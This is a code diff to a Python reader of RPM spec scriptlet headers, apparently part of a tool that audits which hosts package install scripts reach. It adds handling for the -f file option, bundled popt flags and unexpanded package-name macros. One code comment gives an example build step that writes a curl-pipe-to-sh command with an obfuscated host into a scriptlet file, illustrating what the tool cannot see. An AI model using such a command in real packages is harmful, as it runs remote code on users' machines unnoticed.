@@ -58,6 +58,8 @@ class ScriptletHeader(NamedTuple):
     """The package ``-n`` names, whole."""
     suffix: str | None
     """The subpackage's suffix (``%post devel``); neither: the main package."""
+    file: str | None = None
+    """The file ``-f`` names: rpmbuild appends what the build left there to the script."""
 
     def package(self, main: str) -> str:
         """The name of the package the scriptlet is of, the main package being ``main``."""
@@ -81,6 +83,8 @@ def scriptlet_header(section: str, argument: str) -> ScriptletHeader:
             options[word] = words[position + 1]
             position += 2
             continue
+        if len(word) > 2 and word[:2] in _WITH_VALUE:  # popt reads -nNAME as -n NAME
+            options[word[:2]] = word[2:]
         if not word.startswith("-"):
             rest.append(word)
         position += 1
@@ -91,7 +95,7 @@ def scriptlet_header(section: str, argument: str) -> ScriptletHeader:
         when = WHEN[section]
         qualifiers = frozenset({"interp"} if when is None else {when, "interp"})
         requirement = Dependency(interpreter, qualifiers=qualifiers)
-    return ScriptletHeader(requirement, options.get("-n"), rest[0] if rest else None)
+    return ScriptletHeader(requirement, options.get("-n"), rest[0] if rest else None, options.get("-f"))
 
 
 def add_interpreter(
@@ -117,6 +121,21 @@ calling one is read (``%systemd_post xapi.service``). A build host's own (XenSer
 ``%regenerate_initrd_post``) is no such macro."""
 _NAME = re.compile(r"%\{?[?!]*(\w+)")
 _FLAGS = re.compile(r"-[A-Za-z]+")
+
+
+def _flags(argument: str) -> str:
+    """The one-letter options of a scriptlet header's ``argument`` as popt bundles them: ``-eq``
+    is ``-e -q``, and in ``-nNAME``, ``-pPROG`` or ``-fFILE`` what follows the option's letter is
+    its value, not more options (``-nxenconf`` holds no ``-e``)."""
+    found: list[str] = []
+    for word in argument.split("--")[0].split():
+        if _FLAGS.fullmatch(word):
+            letters = word[1:]
+            cut = next((index for index, letter in enumerate(letters) if letter in "npf"), len(letters))
+            found.append(letters[: cut + 1])
+    return "".join(found)
+
+
 """A word of a section header holding options without a value (``-e``, ``-q``, ``-eq``)."""
 _TAG_REFERENCE = re.compile(r"%-?+[0-9]*+\{")
 """What a ``-q`` scriptlet's query format reads a tag with (``%{GROUP}``, ``%-20{NAME}``)."""
@@ -132,6 +151,10 @@ def _published(written: str) -> bool:
     if name in NEVER:
         return False
     return name in RPM_MACRO_NAMES or name in RPM_BUILTIN_NAMES or HELPERS.fullmatch(name) is not None
+
+
+ANY_PACKAGE = "%"
+"""`Spec.scriptlets`' key of what is every binary's: a scriptlet whose package is unknown."""
 
 
 class ScriptletReader:
@@ -154,16 +177,32 @@ class ScriptletReader:
         self.rewritten = ""
         """The open scriptlet's ``-e`` and ``-q``: rpm rewrites its text as it runs it."""
 
-    def section(self, name: str, argument: str, main: str) -> None:
-        """A section ``%<name> <argument>`` starts; ``main`` is the main package's name."""
+    def section(self, name: str, argument: str, main: str, line: int) -> None:
+        """A section ``%<name> <argument>`` starts at ``line``; ``main`` is the main package's name."""
         if name not in WHEN:
             self.open_script = None
             return
         header = scriptlet_header(name, argument)
-        self.open_script = (LABELS.get(name, f"%{name}"), header.package(main))
-        options = "".join(word[1:] for word in argument.split("--")[0].split() if _FLAGS.fullmatch(word))
-        self.rewritten = "".join(sorted({"e", "q"} & set(options)))
-        if "-p" in argument.split():
+        label, package = LABELS.get(name, f"%{name}"), header.package(main)
+        if "%" in package and package != main:
+            # ``-n %{xs_conf_name}``: a build host's macro names the package (rpmbuild fails where
+            # none does). Its text was kept for a package no binary is: which one runs it is unseen.
+            written = shorten(f"%{name} {argument}")
+            detail = f"{self.path}:{line}: {written}: {label} of a package {package} names, not expanded: "
+            detail += "which package runs it, and the hosts it names, unseen"
+            self.gaps.setdefault(ANY_PACKAGE, []).append(Gap(GapKind.SCRIPTLET_UNREAD, detail))
+            package = ANY_PACKAGE
+        self.open_script = (label, package)
+        self.rewritten = "".join(sorted({"e", "q"} & set(_flags(argument))))
+        if header.file is not None:
+            # rpmbuild reads the file once built (``processScriptFiles``): the build may write
+            # any host there (``d=xensource; echo "curl https://updates.$d.com/x | sh" > post.sh``),
+            # and the spec read clean and complete.
+            written = shorten(f"%{name} {argument}")
+            detail = f"{self.path}:{line}: {written}: {label} of {package}: its script is the file "
+            detail += f"{header.file} the build leaves, unseen"
+            self.gaps.setdefault(package, []).append(Gap(GapKind.SCRIPTLET_UNREAD, detail))
+        if any(word.startswith("-p") for word in argument.split()):  # -p PROG, -pPROG
             self.text(argument, program=True)
 
     def text(self, text: str, *, program: bool = False) -> None:
